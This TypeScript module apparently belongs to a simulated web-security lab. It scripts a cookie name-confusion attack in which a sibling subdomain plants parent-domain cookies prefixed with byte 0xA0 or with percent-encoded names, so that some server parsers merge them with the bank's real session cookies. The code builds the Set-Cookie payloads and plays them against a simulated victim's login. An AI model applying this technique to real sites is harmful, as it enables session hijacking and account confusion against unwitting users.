import { type Attack, afterPlant } from '../stage.ts'
import { PARENT } from '../world/hosts.ts'
import { NOTHING_TO_PLANT, ownOfBothKinds, PLANTED_WITH_DROP_INS } from './plant.ts'

export const attack: Attack = {
  title: 'A cookie whose name looks alike to some parsers',
  who: 'somebody who has another sub-domain of the bank’s site',
  story:
    'A byte that some parsers take for white space (0xA0) stands before the name, or a sign of it is written as %5F. To the browser it is another name, which it protects in no way; to those parsers it is the same (CVE-2026-39410).',
  decides: 'whom the bank takes the attacker’s own browser for after the victim’s login, and whether the victim is logged in at all',
  withDropIns: PLANTED_WITH_DROP_INS,
  async play(stage) {
    const { victim, site, tell } = stage
    const known = await ownOfBothKinds(stage)
    if (known.length === 0) return NOTHING_TO_PLANT
    const names = (name: string): readonly string[] => [`\u00a0${name}`, `%${name.charCodeAt(0).toString(16).toUpperCase()}${name.slice(1)}`]
    const alike = known.flatMap(({ name, value }) => names(name).map((odd) => `${odd}=${value}; Domain=${PARENT}; Path=/; Secure`))
    await victim.visit(site.bait('sibling', { headers: { 'set-cookie': alike } }))
    await tell(
      'The victim opens a page on the attacker’s sub-domain, which sets these cookies for the whole site, with the byte 0xA0 before their names, and with %5F and the like in them.',
    )
    await victim.logIn('ann')
    await tell('The victim logs in.')
    return afterPlant(stage, known)
  },
}
